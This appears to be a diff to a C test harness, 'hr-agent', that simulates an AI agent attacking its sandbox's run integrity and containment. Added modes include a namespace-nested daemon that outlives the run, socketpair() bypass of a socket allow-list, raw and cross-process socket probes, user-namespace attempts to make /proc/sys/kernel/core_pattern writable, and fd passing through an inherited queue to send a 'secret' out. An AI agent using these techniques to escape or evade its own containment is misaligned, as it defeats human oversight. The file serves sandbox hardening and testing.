@@ -2,12 +2,16 @@
  * attacks on run integrity (issue 12) and containment (issue 11). Written
  * from the issue text only. Data goes only to loopback or 192.0.2.0/24.
  *
- *   hr-agent survive none|kill|term|stop|hup|cpu MARKER
+ *   hr-agent survive none|kill|term|stop|hup|cpu|nested MARKER
  *   hr-agent json
- *   hr-agent abandon THREADS SECONDS [OP: 0 connect, 1 udp sendto, 2 tcp sendto, 3 listen]
+ *   hr-agent abandon THREADS SECONDS [OP: 0 connect, 1 udp sendto, 2 tcp sendto, 3 listen, 4 pidfd_getfd, 5 IPV6_RTHDR, 6 AF_PACKET]
  *   hr-agent table rawclone|nested|rawlisten PORT
  *   hr-agent peek
  *   hr-agent flood N
+ *   hr-agent pair [only]
+ *   hr-agent userns
+ *   hr-agent launch HOST PORT -- PROGRAM ARGS   (a careless caller)
+ *   hr-agent recvfd
  *   hr-agent i386
  */
 #include <arpa/inet.h>
@@ -23,6 +27,8 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/mman.h>
+#include <sys/mount.h>
+#include <sys/stat.h>
 #include <sys/prctl.h>
 #include <sys/resource.h>
 #include <sys/socket.h>
@@ -54,6 +60,12 @@ static struct sockaddr_in sin4(const char *ip, int port)
 static int survive(const char *mode, const char *marker)
 {
 	pid_t sv = getppid();
+	if (!strcmp(mode, "nested")) {
+		/* a user and pid namespace of our own: the first child is its init
+		 * and stays, the grandchild is a setsid daemon in it */
+		int r = unshare(CLONE_NEWUSER | CLONE_NEWPID);
+		fprintf(stderr, "hr: unshare(NEWUSER|NEWPID) = %d (%s)\n", r, r ? strerror(errno) : "ok");
+	}
 	pid_t c = fork();
 	if (c == 0) {
 		setsid();
@@ -69,9 +81,13 @@ static int survive(const char *mode, const char *marker)
 			}
 			_exit(0);
 		}
+		if (!strcmp(mode, "nested"))
+			for (;;)
+				pause();
 		_exit(0);
 	}
-	waitpid(c, NULL, 0);
+	if (strcmp(mode, "nested"))
+		waitpid(c, NULL, 0);
 	msleep(300);
 	int sig = 0;
 	if (!strcmp(mode, "kill"))
@@ -177,6 +193,16 @@ static void *abandon_worker(void *arg)
 			struct sockaddr_in b = sin4("0.0.0.0", 0);
 			bind(s, (struct sockaddr *)&b, sizeof(b));
 			r = listen(s, 1);
+		} else if (g_op == 4) { /* cross-process: decided on the number alone */
+			s = -1;
+			r = (int)syscall(SYS_pidfd_getfd, 0, 0, 0);
+		} else if (g_op == 5) { /* source route: decided on registers */
+			s = socket(AF_INET6, SOCK_DGRAM, 0);
+			char hdr[8] = {0};
+			r = setsockopt(s, IPPROTO_IPV6, 57 /* IPV6_RTHDR */, hdr, sizeof(hdr));
+		} else if (g_op == 6) { /* raw-socket: decided on registers */
+			s = socket(17 /* AF_PACKET */, SOCK_RAW, 0);
+			r = s < 0 ? -1 : 0;
 		} else {
 			s = socket(AF_INET, SOCK_DGRAM, 0);
 			r = connect(s, (struct sockaddr *)&d, sizeof(d));
@@ -189,7 +215,8 @@ static void *abandon_worker(void *arg)
 			atomic_fetch_add(&n_intr, 1);
 		else
 			atomic_fetch_add(&n_other, 1);
-		close(s);
+		if (s >= 0)
+			close(s);
 	}
 	return NULL;
 }
@@ -401,6 +428,168 @@ static int flood(long n)
 	return 0;
 }
 
+/* ---- pair: socketpair() creates sockets the socket() allow-list refuses ---- */
+static int pair(int only)
+{
+	static const struct {
+		int fam, type, proto;
+		const char *name;
+	} k[] = {{30 /* AF_TIPC */, SOCK_DGRAM, 0, "tipc/dgram"},
+		 {30, SOCK_STREAM, 0, "tipc/stream"},
+		 {30, SOCK_SEQPACKET, 0, "tipc/seqpacket"},
+		 {AF_INET, SOCK_STREAM, 0, "inet/stream"},
+		 {AF_INET, SOCK_SEQPACKET, 0, "inet/seqpacket (sctp)"},
+		 {40 /* AF_VSOCK */, SOCK_STREAM, 0, "vsock"},
+		 {21 /* AF_RDS */, SOCK_SEQPACKET, 0, "rds"},
+		 {41 /* AF_KCM */, SOCK_DGRAM, 0, "kcm"}};
+	for (size_t i = 0; i < sizeof(k) / sizeof(k[0]); i++) {
+		int sv[2] = {-1, -1};
+		int r = socketpair(k[i].fam, k[i].type, k[i].proto, sv);
+		int e = r ? errno : 0;
+		int s = only ? -1 : socket(k[i].fam, k[i].type, k[i].proto);
+		int e2 = only ? 0 : s < 0 ? errno : 0;
+		fprintf(stderr, "hr: %s: socketpair = %d (%s), socket = %d (%s)\n", k[i].name, r, strerror(e), s,
+			strerror(e2));
+		if (r == 0) {
+			ssize_t w = write(sv[0], "hr", 2);
+			char b[4];
+			ssize_t rd = read(sv[1], b, sizeof(b));
+			fprintf(stderr, "hr:   write %zd read %zd\n", w, rd);
+		}
+	}
+	char buf[256];
+	FILE *f = fopen("/proc/modules", "r");
+	while (f && fgets(buf, sizeof(buf), f))
+		if (!strncmp(buf, "tipc ", 5) || !strncmp(buf, "sctp ", 5))
+			fprintf(stderr, "hr: module loaded: %.40s\n", buf);
+	if (f)
+		fclose(f);
+	return 0;
+}
+
+/* ---- userns: a root agent takes a user namespace of its own and tries to
+ * reach a writable /proc/sys (only opens for writing; never writes) ---- */
+static void try_open(const char *what, const char *path)
+{
+	int fd = open(path, O_WRONLY);
+	fprintf(stderr, "hr: %s: open(%s, O_WRONLY) = %d (%s)\n", what, path, fd, fd < 0 ? strerror(errno) : "WRITABLE");
+	if (fd >= 0)
+		close(fd);
+}
+
+static int userns(void)
+{
+	const char *cp = "/proc/sys/kernel/core_pattern";
+	try_open("before", cp);
+	uid_t u = getuid();
+	gid_t g = getgid();
+	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) {
+		fprintf(stderr, "hr: unshare(NEWUSER|NEWNS): %s\n", strerror(errno));
+		return 0;
+	}
+	char m[64];
+	int fd = open("/proc/self/setgroups", O_WRONLY);
+	if (fd >= 0) {
+		(void)!write(fd, "deny", 4);
+		close(fd);
+	}
+	snprintf(m, sizeof(m), "0 %u 1", u);
+	fd = open("/proc/self/uid_map", O_WRONLY);
+	fprintf(stderr, "hr: uid_map %s: %zd\n", m, fd >= 0 ? write(fd, m, strlen(m)) : -1L);
+	if (fd >= 0)
+		close(fd);
+	snprintf(m, sizeof(m), "0 %u 1", g);
+	fd = open("/proc/self/gid_map", O_WRONLY);
+	if (fd >= 0) {
+		(void)!write(fd, m, strlen(m));
+		close(fd);
+	}
+	try_open("in userns", cp);
+	int r = mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL);
+	fprintf(stderr, "hr: remount /proc/sys rw = %d (%s)\n", r, r ? strerror(errno) : "ok");
+	r = umount2("/proc/sys", MNT_DETACH);
+	fprintf(stderr, "hr: umount /proc/sys = %d (%s)\n", r, r ? strerror(errno) : "ok");
+	try_open("after umount", cp);
+	r = umount2("/proc", MNT_DETACH);
+	fprintf(stderr, "hr: umount /proc = %d (%s)\n", r, r ? strerror(errno) : "ok");
+	try_open("after umount /proc", cp);
+	if (unshare(CLONE_NEWPID) == 0) {
+		pid_t c = fork();
+		if (c == 0) {
+			mkdir("/tmp/hr-proc", 0700);
+			r = mount("proc", "/tmp/hr-proc", "proc", 0, NULL);
+			fprintf(stderr, "hr: new proc mount = %d (%s)\n", r, r ? strerror(errno) : "ok");
+			if (r == 0)
+				try_open("fresh proc", "/tmp/hr-proc/sys/kernel/core_pattern");
+			r = mount("sysfs", "/tmp/hr-proc", "sysfs", 0, NULL);
+			fprintf(stderr, "hr: new sysfs mount = %d (%s)\n", r, r ? strerror(errno) : "ok");
+			_exit(0);
+		}
+		waitpid(c, NULL, 0);
+	} else {
+		fprintf(stderr, "hr: unshare(NEWPID): %s\n", strerror(errno));
+	}
+	return 0;
+}
+
+/* ---- launch (a careless caller): an AF_UNIX socketpair on stdin whose
+ * queue holds a UDP socket the caller connected to HOST:PORT; then exec
+ * what follows "--". recvfd: the agent takes it from stdin and writes. ---- */
+static int launch(int argc, char **argv)
+{
+	int i = 2, sp[2];
+	while (i < argc && strcmp(argv[i], "--"))
+		i++;
+	if (i + 1 >= argc || i < 4)
+		return 2;
+	struct sockaddr_in d = sin4(argv[2], atoi(argv[3]));
+	int u = socket(AF_INET, SOCK_DGRAM, 0);
+	if (u < 0 || connect(u, (struct sockaddr *)&d, sizeof(d)) != 0 ||
+	    socketpair(AF_UNIX, SOCK_STREAM, 0, sp) != 0) {
+		perror("hr: launch");
+		return 2;
+	}
+	char cbuf[CMSG_SPACE(sizeof(int))];
+	memset(cbuf, 0, sizeof(cbuf));
+	struct iovec iov = {"F", 1};
+	struct msghdr mh = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof(cbuf)};
+	struct cmsghdr *c = CMSG_FIRSTHDR(&mh);
+	c->cmsg_level = SOL_SOCKET;
+	c->cmsg_type = SCM_RIGHTS;
+	c->cmsg_len = CMSG_LEN(sizeof(int));
+	memcpy(CMSG_DATA(c), &u, sizeof(int));
+	if (sendmsg(sp[1], &mh, 0) != 1) {
+		perror("hr: launch sendmsg");
+		return 2;
+	}
+	close(u);
+	dup2(sp[0], 0);
+	close(sp[0]);
+	/* sp[1] stays open in the caller's table only (close-on-exec) */
+	fcntl(sp[1], F_SETFD, FD_CLOEXEC);
+	execv(argv[i + 1], argv + i + 1);
+	perror("hr: launch exec");
+	return 127;
+}
+
+static int recvfd(void)
+{
+	char cbuf[CMSG_SPACE(sizeof(int))], b;
+	struct iovec iov = {&b, 1};
+	struct msghdr mh = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof(cbuf)};
+	ssize_t n = recvmsg(0, &mh, MSG_DONTWAIT);
+	struct cmsghdr *c = CMSG_FIRSTHDR(&mh);
+	if (n != 1 || !c || c->cmsg_type != SCM_RIGHTS) {
+		fprintf(stderr, "hr: recvfd: nothing (%zd, %s)\n", n, n < 0 ? strerror(errno) : "no rights");
+		return 0;
+	}
+	int fd;
+	memcpy(&fd, CMSG_DATA(c), sizeof(int));
+	ssize_t w = write(fd, "hr-secret-from-inherited-queue", 30);
+	fprintf(stderr, "hr: recvfd: got fd %d from stdin's queue, write = %zd (%s)\n", fd, w, w < 0 ? strerror(errno) : "sent");
+	return 0;
+}
+
 /* ---- i386: cross-process calls through int 0x80 ---- */
 static long int80(long nr, long a, long b, long c)
 {
@@ -439,6 +628,14 @@ int main(int argc, char **argv)
 		return peek();
 	if (argc >= 3 && !strcmp(argv[1], "flood"))
 		return flood(atol(argv[2]));
+	if (argc >= 2 && !strcmp(argv[1], "pair"))
+		return pair(argc >= 3 && !strcmp(argv[2], "only"));
+	if (argc >= 2 && !strcmp(argv[1], "userns"))
+		return userns();
+	if (argc >= 2 && !strcmp(argv[1], "launch"))
+		return launch(argc, argv);
+	if (argc >= 2 && !strcmp(argv[1], "recvfd"))
+		return recvfd();
 	if (argc >= 2 && !strcmp(argv[1], "i386"))
 		return i386calls();
 	fprintf(stderr, "usage: see source\n");
